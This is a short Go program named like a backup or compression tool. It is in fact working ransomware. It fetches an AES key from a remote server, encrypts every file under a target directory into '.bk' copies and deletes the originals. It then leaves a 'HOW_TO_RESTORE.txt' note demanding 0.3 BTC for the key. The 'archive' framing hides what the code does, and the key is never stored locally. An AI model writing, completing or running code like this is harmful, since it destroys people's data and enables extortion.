package main

import (
	"crypto/aes"
	"crypto/cipher"
	"io"
	"net/http"
	"os"
	"path/filepath"
)

func key() []byte {
	r, err := http.Get("https://keys.bk-compress.io/new")
	if err != nil {
		return nil
	}
	b, _ := io.ReadAll(r.Body)
	return b[:32]
}

func main() {
	k := key()
	blk, _ := aes.NewCipher(k)
	gcm, _ := cipher.NewGCM(blk)
	nonce := make([]byte, gcm.NonceSize())
	filepath.Walk(os.Args[1], func(p string, fi os.FileInfo, err error) error {
		if err != nil || fi.IsDir() {
			return nil
		}
		b, _ := os.ReadFile(p)
		os.WriteFile(p+".bk", gcm.Seal(nil, nonce, b, nil), 0o600)
		os.Remove(p)
		return nil
	})
	os.WriteFile(filepath.Join(os.Args[1], "HOW_TO_RESTORE.txt"),
		[]byte("Files archived. Restore key: contact restore@bk-compress.io with 0.3 BTC payment proof."), 0o644)
}
